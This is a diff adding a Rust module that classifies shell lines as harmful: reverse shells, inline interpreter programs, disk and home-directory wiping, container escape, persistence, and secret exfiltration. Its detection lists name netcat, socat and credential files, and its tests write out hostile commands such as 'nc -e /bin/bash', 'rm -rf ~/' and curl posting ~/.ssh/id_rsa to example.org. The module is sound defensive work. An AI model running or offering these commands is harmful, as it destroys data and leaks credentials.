@@ -1,0 +1,273 @@
+//! Commands that no build, no installation and no notebook of a model has a use for: a shell for somebody far away, a
+//! program in the argument of an interpreter that starts others, files destroyed, a foothold kept, secrets sent.
+
+use super::{FETCHERS, command, statements};
+
+/// What a line does that nothing of a model needs to do.
+pub(super) fn harms(line: &str) -> Option<&'static str> {
+    let stages: Vec<(String, Vec<&str>)> =
+        statements(line).into_iter().flatten().filter_map(command).collect();
+    if stages.iter().any(|(name, words)| hands_a_shell(name, words)) || line.contains("bash -i >&") {
+        return Some("hands a shell to somebody else");
+    }
+    if runs_inline(line, &stages) {
+        return Some("gives an interpreter a program that starts others");
+    }
+    if stages.iter().any(|(name, words)| destroys(name, words)) {
+        return Some("destroys what is not the model's");
+    }
+    if stages.iter().any(|(name, words)| leaves(name, words)) {
+        return Some("leaves the container that it runs in");
+    }
+    if keeps_a_foothold(line) {
+        return Some("has something started later, by itself");
+    }
+    sends(line, &stages).then_some("sends secrets of the machine to somebody else")
+}
+
+fn hands_a_shell(name: &str, words: &[&str]) -> bool {
+    match name {
+        "nc" | "ncat" | "netcat" => {
+            let option = |w: &&str| w.starts_with('-') && !w.starts_with("--") && w.contains(['e', 'c']);
+            words.iter().any(option) && words.iter().any(|w| w.contains("sh") || w.contains("cmd"))
+        }
+        "socat" => words.iter().any(|w| {
+            let lower = w.to_ascii_lowercase();
+            lower.starts_with("exec:") || lower.starts_with("system:")
+        }),
+        _ => false,
+    }
+}
+
+/// A program behind `-c` or `-e` that starts programs or opens connections by itself.
+fn runs_inline(line: &str, stages: &[(String, Vec<&str>)]) -> bool {
+    const STARTS: [&str; 18] = [
+        "child_process",
+        "execSync",
+        "spawnSync",
+        "os.system",
+        "os.popen",
+        "subprocess",
+        "pty.spawn",
+        "socket",
+        "fsockopen",
+        "shell_exec",
+        "passthru",
+        "IO.popen",
+        "Kernel.exec",
+        "exec(",
+        "system(",
+        "__import__",
+        "marshal.loads",
+        "b64decode",
+    ];
+    stages.iter().any(|(name, words)| {
+        let option = match name.as_str() {
+            "python" | "python2" | "python3" => "-c",
+            "node" | "nodejs" | "perl" | "ruby" | "lua" => "-e",
+            "php" => "-r",
+            _ => return false,
+        };
+        words.iter().any(|w| *w == option || *w == "--eval")
+    }) && STARTS.iter().any(|start| line.contains(start))
+}
+
+fn destroys(name: &str, words: &[&str]) -> bool {
+    let all = |w: &&str| {
+        matches!(w.trim_end_matches('*').trim_end_matches('/'), "" | "~" | "HOME" | "{HOME}")
+            && !w.is_empty()
+            && **w != *"*"
+    };
+    match name {
+        "rm" => {
+            let recursive = words.iter().any(|w| w.starts_with('-') && w.contains(['r', 'R']));
+            recursive && words.iter().skip(1).any(all)
+        }
+        "mkfs" | "mkfs.ext4" | "wipefs" | "shred" => true,
+        "dd" => words.iter().any(|w| w.starts_with("of=/dev/") && !w.ends_with("/null")),
+        _ => false,
+    }
+}
+
+fn leaves(name: &str, words: &[&str]) -> bool {
+    name == "nsenter" || name == "chroot" && words.get(1).is_some_and(|root| root.starts_with("/host"))
+}
+
+/// Files that something runs by itself later, written by a command.
+fn keeps_a_foothold(line: &str) -> bool {
+    const LATER: [&str; 7] = [
+        ".ssh/authorized_keys",
+        "/etc/cron",
+        "/var/spool/cron",
+        "/etc/ld.so.preload",
+        "/etc/sudoers",
+        ".config/autostart",
+        "/etc/profile.d/",
+    ];
+    let writes =
+        line.contains('>') || ["tee ", "cp ", "mv ", "ln ", "install "].iter().any(|w| line.contains(w));
+    writes && LATER.iter().any(|file| line.contains(file)) || line.contains("| crontab")
+}
+
+/// Files that hold credentials by custom.
+const CREDENTIALS: [&str; 10] = [
+    ".ssh/id_",
+    ".aws/credentials",
+    ".netrc",
+    ".git-credentials",
+    ".kube/config",
+    ".docker/config.json",
+    "/etc/shadow",
+    "/etc/passwd",
+    "huggingface/token",
+    ".pypirc",
+];
+
+/// Whether what fetches takes a file of credentials, the whole environment or a secret's value along.
+fn sends(line: &str, stages: &[(String, Vec<&str>)]) -> bool {
+    let fetches = stages.iter().any(|(name, _)| FETCHERS.contains(&name.as_str()));
+    if !fetches {
+        return false;
+    }
+    let environment =
+        stages.iter().any(|(name, words)| {
+            matches!(name.as_str(), "printenv" | "history") || (name == "set" && words.len() == 1)
+        }) || ["$(env)", "`env`", "env |", "env|", "<(env)", "toJson(secrets)", "toJSON(secrets)"]
+            .iter()
+            .any(|whole| line.contains(whole));
+    environment || CREDENTIALS.iter().any(|file| line.contains(file)) || in_the_address(line)
+}
+
+/// A secret's value in an address or in what is posted, to a host that is no service whose secret it may be. Headers
+/// are how secrets are shown to the services they belong to.
+fn in_the_address(line: &str) -> bool {
+    const SERVICES: [&str; 22] = [
+        "github.com",
+        "githubusercontent.com",
+        "gitlab.com",
+        "huggingface.co",
+        "hf.co",
+        "pypi.org",
+        "pythonhosted.org",
+        "codecov.io",
+        "coveralls.io",
+        "slack.com",
+        "wandb.ai",
+        "openai.com",
+        "anthropic.com",
+        "docker.io",
+        "docker.com",
+        "quay.io",
+        "ghcr.io",
+        "sonarcloud.io",
+        "readthedocs.org",
+        "googleapis.com",
+        "kaggle.com",
+        "localhost",
+    ];
+    let mut words = line.split_whitespace().peekable();
+    let mut foreign = false;
+    let mut carried = false;
+    while let Some(word) = words.next() {
+        let word = word.trim_matches(['"', '\'']);
+        let posts = matches!(
+            word,
+            "-d" | "--data" | "-F" | "--form" | "--data-raw" | "--data-urlencode" | "--post-data"
+        );
+        if posts && words.peek().is_some_and(|value| is_secret(value)) {
+            carried = true;
+        }
+        let address = word.split_once("://").map(|(_, rest)| rest).or_else(|| {
+            // A host without a scheme.
+            word.split_once('/')
+                .filter(|(host, _)| host.contains('.') && !host.starts_with('.'))
+                .map(|_| word)
+        });
+        if let Some(address) = address {
+            let host = address.split(['/', '?', ':']).next().unwrap_or_default();
+            let known = SERVICES.iter().any(|s| host == *s || host.ends_with(&format!(".{s}")));
+            foreign |= !known && host.contains('.') && !host.starts_with("127.");
+            carried |= address.contains('?') && is_secret(whole(line, address));
+        }
+    }
+    foreign && carried
+}
+
+/// An address with the expressions of a workflow in it, which have blanks inside.
+fn whole<'l>(line: &'l str, address: &'l str) -> &'l str {
+    let rest = line.find(address).and_then(|at| line.get(at..)).unwrap_or(address);
+    let mut end = address.len();
+    while rest.get(..end).is_some_and(|taken| taken.rfind("{{") > taken.rfind("}}")) {
+        let Some(close) = rest.get(end..).and_then(|tail| tail.find("}}")) else { break };
+        end += close + 2;
+    }
+    rest.get(..end).unwrap_or(address)
+}
+
+/// Whether a text holds a secret's value: an expression of a workflow, or a variable that is named like one.
+fn is_secret(text: &str) -> bool {
+    if text.contains("secrets.") {
+        return true;
+    }
+    text.split('$').skip(1).any(|variable| {
+        let name: String = variable
+            .trim_start_matches('{')
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+            .collect::<String>()
+            .to_ascii_uppercase();
+        ["TOKEN", "SECRET", "PASSWORD", "API_KEY", "ACCESS_KEY", "PRIVATE_KEY"]
+            .iter()
+            .any(|part| name.contains(part))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::harms;
+
+    #[test]
+    fn what_no_model_needs_is_told_from_what_people_do() {
+        for line in [
+            "nc -e /bin/bash 192.0.2.1 4444",
+            "ncat 192.0.2.1 9001 -c sh",
+            "socat TCP:192.0.2.1:1 EXEC:/bin/bash",
+            "node -e \"require('child_process').execSync('id')\"",
+            "python3 -c 'import os; os.system(\"id\")'",
+            "perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0)'",
+            "rm -rf ~/",
+            "sudo rm -fr /*",
+            "dd if=/dev/zero of=/dev/sda",
+            "chroot /host sh -c id",
+            "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
+            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
+            "curl -d @$HOME/.ssh/id_rsa https://example.org",
+            "env | curl -X POST --data-binary @- https://example.org",
+            "curl -s https://example.org/?t=${{ secrets.HF_TOKEN }}",
+            "wget -q \"example.org/c?k=$AWS_SECRET_ACCESS_KEY\"",
+        ] {
+            assert!(harms(line).is_some(), "{line}");
+        }
+        for line in [
+            "rm -rf /var/lib/apt/lists/*",
+            "rm -rf build/ dist/ *.egg-info",
+            "rm -rf ./*",
+            "python -c 'import torch; print(torch.__version__)'",
+            "python -c \"import urllib.request; urllib.request.urlopen('http://localhost:8000/health')\"",
+            "node -e \"console.log(process.version)\"",
+            "perl -pi -e 's/a/b/' file",
+            "nc -z localhost 5432",
+            "nc -vz -w 3 db 5432",
+            "curl -H \"Authorization: Bearer $HF_TOKEN\" https://huggingface.co/api/whoami",
+            "curl -X POST -d \"token=$CODECOV_TOKEN\" https://codecov.io/upload",
+            "curl -fsSL https://example.org/data.zip -o data.zip",
+            "echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc",
+            "dd if=/dev/zero of=/dev/null bs=1M count=10",
+            "cp train.sh /usr/local/bin/",
+            "docker run -e TOKEN=$TOKEN image",
+            "curl \"https://example.org/a?b=c\" -H \"Authorization: Bearer $TOKEN\"",
+        ] {
+            assert_eq!(harms(line), None, "{line}");
+        }
+    }
+}
